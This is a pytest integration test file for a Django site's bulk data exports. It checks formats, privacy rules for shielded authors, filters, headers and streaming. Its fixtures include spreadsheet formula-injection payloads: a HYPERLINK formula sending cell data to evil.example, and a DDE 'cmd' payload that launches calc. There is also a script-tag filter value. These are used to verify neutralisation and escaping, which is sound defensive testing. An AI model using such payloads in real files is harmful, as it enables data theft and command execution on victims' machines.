"""Bulk exports (/exports/): what each format holds, what it never holds (unpublished,
embargoed, shielded authors, unlisted organizations), formula injection, filters, headers and
a fixed number of queries however many rows stream out."""

import csv
import datetime as dt
import io
import json
import re

import pytest
import time_machine
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext

from palermo.organizations.enums import MemberRole, VerificationStatus
from palermo.reference.models import Article
from palermo.reports import exports
from palermo.reviews.calendar import review_today
from palermo.submissions.enums import IdentityTier, SubmissionStatus
from palermo.submissions.models import (
    CoSigner,
    CoSignerStatus,
    Recommendation,
    Submission,
    SubmissionSource,
)
from tests.organizations.helpers import make_organization
from tests.submissions.helpers import LAW, ORG_MARKER, PRACTICE, REGION_TEXT, make_submission

pytestmark = [pytest.mark.integration, pytest.mark.django_db]

FORMATS = ["csv", "json", "ndjson"]
SUBMISSION_DATASETS = ["submissions", "recommendations", "sources"]
DATASETS = [*SUBMISSION_DATASETS, "states", "reviews", "organizations"]

PARTNER = "Partner Ex8-Marker"  # attributed: named everywhere
COSIGNER_MARKER = "Cosigner Vb3-Marker"  # co-signs a pseudonymous submission: never named
FORMULA_TITLE = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'
FORMULA_RECOMMENDATION = "@SUM(1+1)*cmd|' /C calc'!A0"
SITE = "http://127.0.0.1:8000"
LISTED = re.compile(r'href="/submissions/(S-\d{4}-\d{4,})/"')


@pytest.fixture(autouse=True)
def frozen_today():
    with time_machine.travel(dt.datetime(2026, 11, 29, 10, 0, tzinfo=dt.UTC), tick=False):
        yield


def download(url: str, client=None) -> tuple[object, bytes]:
    response = (client or Client()).get(url)
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return response, body


def parse(fmt: str, body: bytes) -> list[dict]:
    text = body.decode("utf-8")
    if fmt == "csv":
        return list(csv.DictReader(io.StringIO(text, newline="")))
    if fmt == "json":
        return json.loads(text)
    assert text == "" or text.endswith("\n")
    return [json.loads(line) for line in text.split("\n")[:-1]]


def rows(url: str) -> list[dict]:
    response, body = download(url)
    assert response.status_code == 200, (url, body[:500])
    return parse(url.rsplit(".", 1)[1].split("?")[0], body)


@pytest.fixture
def partner(outsider):
    return make_organization(
        PARTNER, slug="partner-ex8", members={outsider: MemberRole.OWNER}, logo=False
    )


@pytest.fixture
def population(observatorio, org_editor, partner, outsider, other_org):
    """Four public submissions, one per identity tier, and five that must never be exported.

    The Observatorio (ORG_MARKER) is listed in the registry, yet wrote only shielded input:
    its name may appear in the organizations export, never next to a submission."""
    published = SubmissionStatus.PUBLISHED
    shown = {
        "attributed": make_submission(
            partner,
            outsider,
            status=published,
            title="Named input on Nigeria",
            articles=(("untoc", 5), ("untoc", 24)),
        ),
        "coalition": make_submission(
            partner,
            outsider,
            status=published,
            title=FORMULA_TITLE,
            tier=IdentityTier.COALITION,
            state="FRA",
            cluster="II",
            instruments=("untoc", "firearms"),
            articles=(("untoc", 23), ("firearms", 9)),
            language="fr",
        ),
        "pseudonymous": make_submission(
            observatorio,
            org_editor,
            status=published,
            title="Shielded input on Mexico",
            tier=IdentityTier.PSEUDONYMOUS,
            state="MEX",
            cluster=None,
            instruments=("tip",),
            articles=(("tip", 3),),
            language="es",
        ),
        "anonymous": make_submission(
            observatorio,
            org_editor,
            status=published,
            title="Sent without an account",
            tier=IdentityTier.ANONYMOUS,
        ),
    }
    # An anonymous submission has no organization behind it (it came through /submit/).
    Submission.objects.filter(pk=shown["anonymous"].pk).update(organization=None)
    cosigner = make_organization(COSIGNER_MARKER, slug="cosigner-vb3")
    CoSigner.objects.create(
        submission=shown["attributed"], organization=other_org, status=CoSignerStatus.ACCEPTED
    )
    CoSigner.objects.create(
        submission=shown["pseudonymous"], organization=cosigner, status=CoSignerStatus.ACCEPTED
    )
    # Formula triggers in every kind of text cell.
    Submission.objects.filter(pk=shown["coalition"].pk).update(
        summary="-2+3 is how many cases reached court", law="\t=1+1 tab first"
    )
    Recommendation.objects.filter(submission=shown["coalition"]).update(text=FORMULA_RECOMMENDATION)
    SubmissionSource.objects.filter(submission=shown["coalition"]).update(title="+1 555 0100")
    hidden = {
        status: make_submission(observatorio, org_editor, status=status, title=f"Hidden {status}")
        for status in ("draft", "internal_review", "submitted", "returned", "withdrawn")
    }
    hidden["embargoed"] = make_submission(
        partner,
        outsider,
        status=published,
        title="Hidden embargoed",
        embargo_until=review_today() + dt.timedelta(days=1),
    )
    for submission in [*shown.values(), *hidden.values()]:
        submission.refresh_from_db()
    return shown, hidden


# --- What each format holds -----------------------------------------------------------------------


def test_the_submissions_json_holds_each_public_submission_whole(population):
    shown, _hidden = population
    named = shown["attributed"]

    found = {row["reference"]: row for row in rows("/exports/submissions.json")}

    assert sorted(found) == sorted(s.reference for s in shown.values())
    assert found[named.reference] == {
        "reference": named.reference,
        "url": f"{SITE}/submissions/{named.reference}/",
        "title": "Named input on Nigeria",
        "summary": "Summary of: Named input on Nigeria",
        "law": LAW,
        "practice": PRACTICE,
        "language": "en",
        "state": "NGA",
        "state_name": "Nigeria",
        "cluster": "I",
        "instruments": ["untoc"],
        "articles": ["untoc-24", "untoc-5"],
        "author": PARTNER,
        "tier": "attributed",
        "cosigners": ["Red Sur"],
        "cosigner_count": 1,
        "published_at": named.published_at.isoformat(),
        "version": 1,
        "is_demo": False,
    }
    assert found[shown["pseudonymous"].reference]["author"] == REGION_TEXT
    assert found[shown["coalition"].reference]["author"] == f"A coalition led by {PARTNER}"
    assert found[shown["anonymous"].reference]["author"] == "An anonymous civil-society source"


def test_csv_and_ndjson_hold_the_same_records_as_json(population):
    records = rows("/exports/submissions.json")

    assert rows("/exports/submissions.ndjson") == records
    as_text = [{key: exports._cell(value) for key, value in record.items()} for record in records]
    assert rows("/exports/submissions.csv") == as_text
    assert list(rows("/exports/submissions.csv")[0]) == exports.SUBMISSION_COLUMNS


def test_a_csv_row_reads_as_text_with_lists_joined(population):
    shown, _hidden = population
    named = shown["attributed"]

    (row,) = [r for r in rows("/exports/submissions.csv") if r["reference"] == named.reference]

    assert row["articles"] == "untoc-24; untoc-5"
    assert row["cosigners"] == "Red Sur"
    assert (row["cosigner_count"], row["version"], row["is_demo"]) == ("1", "1", "false")
    assert row["law"] == LAW  # line breaks survive inside a quoted cell


@pytest.mark.parametrize("fmt", FORMATS)
def test_recommendations_cite_their_published_submission(population, fmt):
    shown, _hidden = population
    coalition = shown["coalition"]

    found = rows(f"/exports/recommendations.{fmt}")

    assert sorted(r["submission"] for r in found) == sorted(s.reference for s in shown.values())
    (row,) = [r for r in found if r["submission"] == coalition.reference]
    expected = {
        "submission": coalition.reference,
        "submission_url": f"{SITE}/submissions/{coalition.reference}/",
        "number": 1,
        "state": "FRA",
        "cluster": "II",
        "author": f"A coalition led by {PARTNER}",
        "tier": "coalition",
        "text": FORMULA_RECOMMENDATION,
        "addressee": "state",
        "priority": "high",
        "articles": [],
        "published_at": coalition.published_at.isoformat(),
    }
    if fmt == "csv":
        expected = {k: exports._cell(v) for k, v in expected.items()}
    assert row == expected


@pytest.mark.parametrize("fmt", FORMATS)
def test_sources_belong_to_published_submissions(population, fmt):
    shown, _hidden = population

    found = rows(f"/exports/sources.{fmt}")

    assert sorted(r["submission"] for r in found) == sorted(s.reference for s in shown.values())
    named = [r for r in found if r["submission"] == shown["attributed"].reference]
    assert named == [
        {
            "submission": shown["attributed"].reference,
            "position": "1" if fmt == "csv" else 1,
            "title": "A report",
            "url": "https://example.org/r",
            "date": "" if fmt == "csv" else None,
            "kind": "report",
        }
    ]


# --- What never leaves ----------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("dataset", SUBMISSION_DATASETS)
def test_nothing_unpublished_or_embargoed_is_exported(population, dataset, fmt):
    _shown, hidden = population

    response, body = download(f"/exports/{dataset}.{fmt}")

    assert response.status_code == 200
    text = body.decode()
    for submission in hidden.values():
        assert submission.reference not in text
        assert submission.title not in text


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("dataset", SUBMISSION_DATASETS)
def test_a_shielded_organization_is_never_named_next_to_its_submissions(population, dataset, fmt):
    """The Observatorio is in the public registry, but its submissions are pseudonymous or
    anonymous: neither its name nor its co-signer's may appear in any submission export."""
    response, body = download(f"/exports/{dataset}.{fmt}")

    assert response.status_code == 200
    text = body.decode()
    assert ORG_MARKER not in text
    assert COSIGNER_MARKER not in text
    assert "observatorio-zq7" not in text  # not even its address


@pytest.mark.parametrize("dataset", DATASETS)
def test_an_unlisted_organization_is_in_no_export_at_all(population, observatorio, dataset):
    observatorio.is_listed = False
    observatorio.save(update_fields=["is_listed"])

    for fmt in FORMATS:
        response, body = download(f"/exports/{dataset}.{fmt}")

        assert response.status_code == 200
        assert ORG_MARKER not in body.decode(), fmt


def test_the_pseudonymous_author_is_the_region_only(population):
    shown, _hidden = population

    found = {r["reference"]: r for r in rows("/exports/submissions.json")}

    shielded = found[shown["pseudonymous"].reference]
    assert shielded["author"] == REGION_TEXT  # the Observatorio's headquarters: Nigeria
    assert shielded["cosigners"] == []
    assert shielded["cosigner_count"] == 1


def test_the_export_speaks_the_language_of_the_request(population, settings):
    """The rows are written after the view has returned: still in the reader's language."""
    shown, _hidden = population
    client = Client()
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "fr"

    _response, body = download("/exports/submissions.json", client)

    found = {r["reference"]: r for r in parse("json", body)}
    assert found[shown["pseudonymous"].reference]["author"].startswith(
        "Une organisation de la société civile"
    )
    assert found[shown["anonymous"].reference]["author"] != "An anonymous civil-society source"


# --- Formula injection ----------------------------------------------------------------------------


def test_formula_cells_get_an_apostrophe_in_csv_and_stay_unchanged_in_json(population):
    shown, _hidden = population
    reference = shown["coalition"].reference

    (csv_row,) = [r for r in rows("/exports/submissions.csv") if r["reference"] == reference]
    (json_row,) = [r for r in rows("/exports/submissions.json") if r["reference"] == reference]
    (rec_row,) = [r for r in rows("/exports/recommendations.csv") if r["submission"] == reference]
    (src_row,) = [r for r in rows("/exports/sources.csv") if r["submission"] == reference]

    assert csv_row["title"] == "'" + FORMULA_TITLE
    assert csv_row["summary"] == "'-2+3 is how many cases reached court"
    assert csv_row["law"] == "'\t=1+1 tab first"
    assert rec_row["text"] == "'" + FORMULA_RECOMMENDATION
    assert src_row["title"] == "'+1 555 0100"
    assert json_row["title"] == FORMULA_TITLE
    assert json_row["summary"] == "-2+3 is how many cases reached court"
    assert json_row["law"] == "\t=1+1 tab first"


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\nx", "'\nx"),
        ("  =1+1", "'  =1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("a=1", "a=1"),
        ("Plain text", "Plain text"),
        ("'quoted", "'quoted"),
        ("", ""),
    ],
)
def test_neutralise_follows_the_owasp_list(cell, expected):
    assert exports.neutralise(cell) == expected


def test_numbers_are_never_prefixed():
    assert exports._cell(-3) == "-3"
    assert exports._cell(["-x", "y"]) == "'-x; y"
    assert exports._cell(None) == ""
    assert exports._cell(True) == "true"


# --- Filters --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "query",
    [
        "",
        "state=NGA",
        "state=mex",
        "instrument=firearms",
        "article=untoc-23",
        "cluster=II",
        "language=es",
        "type=ngo",
        "state=NGA&language=fr",
    ],
)
def test_filters_select_what_the_public_list_shows(population, query):
    page = Client().get(f"/submissions/?{query}")
    assert page.status_code == 200
    listed = sorted(LISTED.findall(page.content.decode()))

    for fmt in FORMATS:
        exported = sorted(r["reference"] for r in rows(f"/exports/submissions.{fmt}?{query}"))
        assert exported == listed, fmt
    cited = {r["submission"] for r in rows(f"/exports/sources.json?{query}")}
    assert cited == set(listed)


@pytest.fixture
def recommendations(population):
    """Three recommendations on the Nigerian submission, for the recommendation filters."""
    shown, _hidden = population
    named = shown["attributed"]
    Recommendation.objects.filter(submission=named).delete()
    for number, (addressee, priority, article) in enumerate(
        [("state", "high", 5), ("reviewers", "low", 24), ("conference", "high", None)], 1
    ):
        recommendation = Recommendation.objects.create(
            submission=named,
            position=number,
            text=f"Recommendation {number}",
            addressee=addressee,
            priority=priority,
        )
        if article:
            recommendation.articles.add(
                Article.objects.get(instrument__code="untoc", number=article)
            )
    return population


@pytest.mark.parametrize(
    "query",
    [
        "",
        "state=NGA",
        "article=untoc-5",
        "article=untoc-24&priority=low",
        "priority=high",
        "addressee=conference",
        "state=MEX&priority=low",
    ],
)
def test_recommendations_select_what_the_api_lists(recommendations, query):
    api = api_items(f"/api/v1/recommendations?{query}")
    expected = sorted((r["submission"], r["number"], r["author"], r["text"]) for r in api)

    for fmt in FORMATS:
        found = [
            (r["submission"], int(r["number"]), r["author"], r["text"].removeprefix("'"))
            for r in rows(f"/exports/recommendations.{fmt}?{query}")
        ]
        assert sorted(found) == expected, fmt


@pytest.mark.parametrize(
    ("url", "message"),
    [
        ("/exports/submissions.{fmt}?state=ZZZ", "Unknown State “ZZZ”."),
        ("/exports/recommendations.{fmt}?article=untoc-999", "Unknown article “untoc-999”"),
        ("/exports/recommendations.{fmt}?priority=urgent", "Unknown priority “urgent”."),
        ("/exports/sources.{fmt}?language=xx", "Unknown language “xx”."),
        ("/exports/states.{fmt}?stage=nowhere", "Unknown stage “nowhere”."),
        ("/exports/states.{fmt}?group=4", "Review group must be 1, 2, 3"),
        ("/exports/reviews.{fmt}?cluster=IX", "Unknown cluster “IX”."),
        ("/exports/reviews.{fmt}?state=XXX", "Unknown State “XXX”."),
        ("/exports/reviews.{fmt}?current=maybe", "“current” must be true or false"),
        ("/exports/organizations.{fmt}?type=cartel", "Unknown organization type “cartel”."),
        ("/exports/submissions.{fmt}?state=%3Cscript%3E", "Unknown State “&lt;SCRIPT&gt;”."),
    ],
)
@pytest.mark.parametrize("fmt", FORMATS)
def test_a_bad_filter_is_a_400_with_a_message(url, message, fmt):
    response, body = download(url.format(fmt=fmt))

    assert response.status_code == 400
    assert not response.streaming
    if fmt == "csv":
        assert response["Content-Type"] == "text/html; charset=utf-8"
        assert message in body.decode()
        assert "<script>" not in body.decode().lower()
    else:
        assert response["Content-Type"] == "application/json"
        assert message.replace("&lt;", "<").replace("&gt;", ">") in json.loads(body)["detail"]


@pytest.mark.parametrize(
    ("url", "status"),
    [
        ("/exports/submissions.csv?bom=1", 200),
        ("/exports/submissions.csv?bom=0", 200),
        ("/exports/submissions.csv?bom=yes", 400),
        ("/exports/submissions.json?bom=1", 400),
    ],
)
def test_the_byte_order_mark_is_opt_in_and_for_csv_only(population, url, status):
    response, body = download(url)

    assert response.status_code == status
    if status == 200:
        assert body.startswith("\ufeffreference,".encode()) == url.endswith("bom=1")


def test_csv_has_no_byte_order_mark_by_default(population):
    _response, body = download("/exports/submissions.csv")
    assert body.startswith(b"reference,url,title,")


# --- Reference, reviews and organizations ---------------------------------------------------------


def api_items(url: str) -> list[dict]:
    response = Client().get(url + ("&" if "?" in url else "?") + "page_size=500")
    assert response.status_code == 200, url
    return response.json()["items"]


def test_the_states_export_agrees_with_the_api():
    api = api_items("/api/v1/states?region=african")

    for fmt in FORMATS:
        exported = rows(f"/exports/states.{fmt}?region=african")
        assert [r["code"] for r in exported] == [s["code"] for s in api], fmt
    exported = {r["code"]: r for r in rows("/exports/states.json?region=african")}
    for state in api:
        row = exported[state["code"]]
        assert row["progress"] == state["progress"]
        assert row["review_group"] == state["review_group"]
        assert row["participation"] == state["participation"]
        assert row["url"] == SITE + state["url"]


def test_a_states_csv_has_one_participation_column_per_instrument():
    (nigeria,) = [r for r in rows("/exports/states.csv") if r["code"] == "NGA"]

    (api,) = [s for s in api_items("/api/v1/states") if s["code"] == "NGA"]
    assert {k: v for k, v in nigeria.items() if k.startswith("participation.")} == {
        f"participation.{code}": api["participation"].get(code, "")
        for code in ("untoc", "tip", "som", "firearms")
    }
    assert nigeria["review_group"] == "1"


@pytest.mark.parametrize(
    "query",
    [
        "state=nga",
        "region=african",
        "group=1&stage=started",
        "cluster=I&current=true",
        "instrument=firearms&phase=2",
        "group=unknown",
    ],
)
def test_the_reviews_export_agrees_with_the_api(query):
    """The same reviews, in the same order, with the same derived stage and delays."""
    api = api_items(f"/api/v1/reviews?{query}")

    for fmt in FORMATS:
        found = rows(f"/exports/reviews.{fmt}?{query}")
        assert [(r["state"], str(r["phase"])) for r in found] == [
            (r["state"], str(r["phase"])) for r in api
        ], fmt
    found = rows(f"/exports/reviews.json?{query}")
    for row, review in zip(found, api, strict=True):
        assert row["progress"] == review["progress"]
        assert row["overdue_days"] == review["overdue_days"]
        assert row["is_current"] == review["is_current"]
        assert row["cluster"] == review["cluster"]["numeral"]


def test_a_review_row_is_whole():
    (first,) = rows("/exports/reviews.json?state=NGA&phase=1")

    assert first["url"] == f"{SITE}/states/NGA/#phase-1"
    assert (first["group"], first["phase"], first["cluster"]) == (1, 1, "I")
    assert first["expected_start"] == "2020-11-01"
    assert set(first["observed"]) <= {
        "focal_point",
        "experts",
        "self_assessment",
        "feedback",
        "observations",
        "summary",
        "completed",
    }
    (csv_row,) = rows("/exports/reviews.csv?state=NGA&phase=1")
    assert list(csv_row) == exports.review_columns()


def test_only_listed_verified_organizations_are_exported(population, partner):
    make_organization("Pending Pq2-Marker", slug="pending-pq2", status=VerificationStatus.PENDING)
    make_organization("Unlisted Ul5-Marker", slug="unlisted-ul5", listed=False)
    api = {o["slug"] for o in api_items("/api/v1/organizations")}

    for fmt in FORMATS:
        found = rows(f"/exports/organizations.{fmt}")
        assert {r["slug"] for r in found} == api, fmt
        assert {"partner-ex8", "red-sur", "observatorio-zq7"} <= {r["slug"] for r in found}
    _response, body = download("/exports/organizations.ndjson")
    assert b"Pq2-Marker" not in body
    assert b"Ul5-Marker" not in body
    (row,) = [r for r in rows("/exports/organizations.json") if r["slug"] == "partner-ex8"]
    assert row["name"] == PARTNER
    assert row["url"] == f"{SITE}/organizations/partner-ex8/"


# --- Responses ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("fmt", "content_type"),
    [
        ("csv", "text/csv; charset=utf-8; header=present"),
        ("json", "application/json"),
        ("ndjson", "application/x-ndjson"),
    ],
)
@pytest.mark.parametrize("dataset", DATASETS)
def test_headers_name_a_dated_attachment(dataset, fmt, content_type):
    response = Client().get(f"/exports/{dataset}.{fmt}")

    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == content_type
    assert response["Content-Disposition"] == (
        f'attachment; filename="palermo-hub-{dataset}-2026-11-29.{fmt}"'
    )
    assert response["X-Content-Type-Options"] == "nosniff"
    b"".join(response.streaming_content)


@pytest.mark.parametrize(("fmt", "empty"), [("csv", None), ("json", b"[]\n"), ("ndjson", b"")])
def test_an_empty_export_is_still_a_valid_file(fmt, empty):
    response, body = download(f"/exports/submissions.{fmt}?state=ITA")

    assert response.status_code == 200
    if fmt == "csv":
        assert body == (",".join(exports.SUBMISSION_COLUMNS) + "\r\n").encode()
    else:
        assert body == empty


def test_the_json_export_streams_one_object_per_line():
    _response, body = download("/exports/states.json")

    lines = body.decode().split("\n")
    assert lines[0] == "[" and lines[-2:] == ["]", ""]
    assert all(line.startswith("{") for line in lines[1:-2])
    assert len(json.loads(body)) == len(lines) - 3


@pytest.mark.parametrize(
    "url", ["/exports/nothing.csv", "/exports/submissions.xml", "/exports/submissions"]
)
def test_unknown_datasets_and_formats_are_not_found(url):
    assert Client().get(url).status_code == 404


def test_the_index_links_every_dataset_in_every_format(population):
    response = Client().get("/exports/")

    assert response.status_code == 200
    html = response.content.decode()
    links = re.findall(r'href="(/exports/[a-z]+\.[a-z]+)"', html)
    assert sorted(links) == sorted(f"/exports/{d}.{f}" for d in exports.DATASETS for f in FORMATS)
    for link in links:
        assert download(link)[0].status_code == 200
    assert 'href="/changes.atom"' in html


def test_the_footer_links_the_exports_and_the_changelog():
    html = Client().get("/").content.decode()
    assert 'href="/exports/"' in html
    assert 'href="/changes.atom"' in html


# --- Constant memory, constant queries ------------------------------------------------------------


TIERS = [
    {"tier": IdentityTier.ATTRIBUTED},
    {"tier": IdentityTier.ATTRIBUTED, "show_authors": True},
    {"tier": IdentityTier.COALITION},
    {"tier": IdentityTier.PSEUDONYMOUS},
]


def grow(organization, by, *, total: int) -> None:
    count = Submission.objects.filter(status=SubmissionStatus.PUBLISHED).count()
    while count < total:
        make_submission(
            organization,
            by,
            status=SubmissionStatus.PUBLISHED,
            title=f"Submission {count:03}",
            instruments=("untoc", "tip"),
            articles=(("untoc", 5), ("tip", 3)),
            **TIERS[count % len(TIERS)],
        )
        count += 1


def queries_for(url: str) -> tuple[int, int]:
    with CaptureQueriesContext(connection) as captured:
        response, body = download(url)
    assert response.status_code == 200, url
    return len(captured), len(parse(url.rsplit(".", 1)[1].split("?")[0], body))


@pytest.mark.parametrize(
    "url",
    [
        "/exports/submissions.ndjson",
        "/exports/submissions.csv?instrument=untoc",
        "/exports/recommendations.json",
        "/exports/sources.csv",
        "/exports/organizations.ndjson",
    ],
)
def test_queries_do_not_grow_with_rows(observatorio, org_editor, url):
    grow(observatorio, org_editor, total=3)
    for number in range(3):
        make_organization(f"Registry org {number}", slug=f"registry-{number}")
    few, rows_few = queries_for(url)
    grow(observatorio, org_editor, total=30)
    for number in range(3, 30):
        make_organization(f"Registry org {number}", slug=f"registry-{number}")
    many, rows_many = queries_for(url)

    assert rows_few < rows_many, "the rows are really there"
    assert many == few, [q["sql"] for q in connection.queries[-many:]]


def test_rows_are_read_a_batch_at_a_time(observatorio, org_editor, monkeypatch):
    """In batches of 4, 10 rows take 3 rounds of the per-batch queries; every row is whole."""
    grow(observatorio, org_editor, total=10)
    whole = rows("/exports/submissions.json")
    one_batch, _count = queries_for("/exports/submissions.json")
    monkeypatch.setattr(exports, "FIRST_CHUNK", 4)
    monkeypatch.setattr(exports, "CHUNK", 4)

    three_batches, count = queries_for("/exports/submissions.json")

    assert count == 10
    assert rows("/exports/submissions.json") == whole
    per_batch = 3  # instruments, articles and co-signers; the rows come from one cursor
    assert three_batches == one_batch + 2 * per_batch


def test_the_stream_hands_out_bounded_pieces(observatorio, org_editor, monkeypatch):
    grow(observatorio, org_editor, total=12)
    monkeypatch.setattr(exports, "FLUSH_BYTES", 2000)

    response = Client().get("/exports/submissions.ndjson")
    pieces = list(response.streaming_content)

    assert len(pieces) > 3
    assert pieces[0].count(b"\n") == 1, "the first record goes out at once"
    assert all(len(piece) < 2000 + 2000 for piece in pieces)
    assert len(parse("ndjson", b"".join(pieces))) == 12
